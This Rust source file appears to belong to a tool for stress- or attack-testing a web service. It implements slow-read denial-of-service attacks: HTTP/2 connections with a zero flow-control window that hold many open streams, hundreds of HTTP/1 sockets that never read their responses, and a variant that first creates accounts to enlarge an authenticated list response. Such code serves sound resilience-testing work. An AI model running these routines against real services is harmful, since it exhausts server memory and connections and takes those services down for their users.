//! Requests whose responses are never read.

use std::sync::Arc;
use std::time::Duration;

use h2::client::SendRequest;
use salvo::hyper::body::Bytes;
use salvo::hyper::http::Request;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpSocket;

use crate::attacker::Attacker;
use crate::requests::filled;

const PAGE: &str = "/docs/swagger-ui-bundle.js";
const STREAMS: usize = 100;
/// Delay before a refused or closed connection is retried.
const PAUSE: Duration = Duration::from_millis(50);

pub(crate) async fn page_over_http2(attacker: Arc<Attacker>) {
    over_http2(attacker, |builder| builder.uri(format!("http://a{PAGE}"))).await;
}

/// A list of the attacker's own accounts, which are created first.
pub(crate) async fn lists(attacker: Arc<Attacker>) {
    const LIST: &str = "/accounts?quantity=100";
    let (key, host) = (attacker.keys[0].clone(), attacker.host.to_string());
    let account = move |number: u64| {
        let mut body: serde_json::Value = serde_json::from_str(&filled(number)).expect("JSON");
        body["name"] = format!("Account {number}").into();
        key.request("POST", "/accounts", &body.to_string(), &host)
    };
    let made = Arc::clone(&attacker).send(4, 200, account);
    // About a hundred of them; unfinished ones at the end do not matter.
    let _elapsed = tokio::time::timeout(Duration::from_millis(600), made).await;
    let key = attacker.keys[0].clone();
    over_http2(attacker, move |builder| {
        let headers = key.sign("GET", LIST, "").into_iter();
        headers.fold(
            builder.uri(format!("http://a{LIST}")),
            |builder, (name, value)| builder.header(name, value),
        )
    })
    .await;
}

/// Allows the server to send heads, but no byte of a body.
async fn over_http2<F>(attacker: Arc<Attacker>, request: F)
where
    F: Fn(salvo::hyper::http::request::Builder) -> salvo::hyper::http::request::Builder
        + Clone
        + Send
        + 'static,
{
    let each = (0..16).map(|_| {
        let (attacker, request) = (Arc::clone(&attacker), request.clone());
        async move {
            loop {
                if let Some((sender, _)) = connect(&attacker).await {
                    hold_answers(&attacker, sender, &request).await;
                    attacker.count("connections closed by the service");
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
    });
    futures_util::future::join_all(each).await;
}

/// Until the connection is closed.
async fn hold_answers(
    attacker: &Attacker,
    mut sender: SendRequest<Bytes>,
    request: &impl Fn(salvo::hyper::http::request::Builder) -> salvo::hyper::http::request::Builder,
) {
    let mut held = Vec::new();
    while held.len() < STREAMS {
        // Waits while the service accepts no more streams.
        let Ok(ready) = sender.ready().await else {
            return;
        };
        sender = ready;
        let request = request(Request::builder()).body(()).expect("a request");
        let Ok((answer, _)) = sender.send_request(request, true) else {
            return;
        };
        let Ok(answer) = answer.await else {
            return;
        };
        attacker.count(answer.status().as_u16());
        if answer.status() == 200 {
            held.push(answer);
        } else {
            tokio::time::sleep(PAUSE).await;
        }
    }
    if let Some(last) = held.pop() {
        // Ends with the connection.
        let _ = last.into_body().data().await;
    }
}

/// A connection with window 0, and the task that drives it.
pub(crate) async fn connect(
    attacker: &Attacker,
) -> Option<(SendRequest<Bytes>, tokio::task::JoinHandle<()>)> {
    let stream = attacker.connect().await.ok()?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(0);
    let (sender, connection) = builder.handshake(stream).await.ok()?;
    let driver = tokio::spawn(async {
        let _ = connection.await;
    });
    Some((sender, driver))
}

pub(crate) async fn page_over_http1(attacker: Arc<Attacker>) {
    let request = format!("GET {PAGE} HTTP/1.1\r\nhost: {}\r\n\r\n", attacker.host);
    let each = (0..400).map(|_| async {
        loop {
            let asked = async {
                let socket = TcpSocket::new_v4()?;
                socket.set_recv_buffer_size(4_096)?;
                let mut stream = attacker.connect_by(socket).await?;
                stream.write_all(request.as_bytes()).await?;
                attacker.count("asked");
                loop {
                    tokio::time::sleep(10 * PAUSE).await;
                    // Fails once the service has reset the connection; reads nothing.
                    stream.peek(&mut [0]).await?;
                }
            };
            let ended: std::io::Result<()> = asked.await;
            if ended.is_err() {
                attacker.count("connections closed by the service");
            }
            tokio::time::sleep(PAUSE).await;
        }
    });
    futures_util::future::join_all(each).await;
}
